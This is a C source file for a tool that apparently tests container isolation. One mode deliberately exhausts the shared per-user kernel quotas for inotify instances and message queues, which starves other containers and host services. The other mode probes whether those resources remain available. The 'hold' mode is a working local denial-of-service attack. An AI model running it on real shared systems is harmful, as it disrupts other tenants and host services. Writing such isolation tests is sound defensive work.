/* Per-user kernel quotas that user namespaces count up their chain (ucounts): inotify instances and POSIX message queue
 * bytes. A user namespace's processes are counted against their own uid in it, then against the namespace's owner in
 * the namespace above: every container whose namespace host root made shares host root's count (and limit) with host
 * root itself and with every other such container. So one container holding them all would leave the others, and the
 * host's own services, none.
 *
 *   ucounts hold FILE   takes every inotify instance and message queue byte it can, writes "held I inotify, Q mqueue"
 *                       to FILE and sleeps (until killed): the attack.
 *   ucounts probe       takes up to 16 inotify instances and 4 message queues of 8 KiB and says how many it got.
 * probe exits 0 when it got all 16 and 4, 1 otherwise; hold never exits on its own. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

static int take_inotify(int max)
{
    int n = 0;
    while (n < max && inotify_init1(IN_CLOEXEC) >= 0) n++;
    return n;
}

/* queues of 10 messages of 8 KiB (the default limits of an ipc namespace), unlinked at once and kept open */
static int take_mqueues(int max)
{
    struct mq_attr attr = { .mq_maxmsg = 10, .mq_msgsize = 8192 };
    int n = 0;
    for (; n < max; n++)
    {
        char name[64];
        snprintf(name, sizeof name, "/ucounts-%d-%d", (int)getpid(), n);
        mqd_t q = mq_open(name, O_CREAT | O_EXCL | O_RDWR, 0600, &attr);
        if (q == (mqd_t)-1) break;
        mq_unlink(name);
    }
    return n;
}

int main(int argc, char** argv)
{
    if (argc == 3 && strcmp(argv[1], "hold") == 0)
    {
        int inotify = take_inotify(1 << 20);
        int mqueue = take_mqueues(1 << 20);
        FILE* f = fopen(argv[2], "w");
        if (f == NULL) return 2;
        fprintf(f, "held %d inotify, %d mqueue\n", inotify, mqueue);
        fclose(f);
        printf("held %d inotify, %d mqueue\n", inotify, mqueue);
        fflush(stdout);
        for (;;) pause();
    }
    if (argc == 2 && strcmp(argv[1], "probe") == 0)
    {
        int inotify = take_inotify(16);
        int mqueue = take_mqueues(4);
        printf("got %d inotify, %d mqueue\n", inotify, mqueue);
        return inotify == 16 && mqueue == 4 ? 0 : 1;
    }
    fprintf(stderr, "usage: ucounts hold FILE | ucounts probe\n");
    return 2;
}
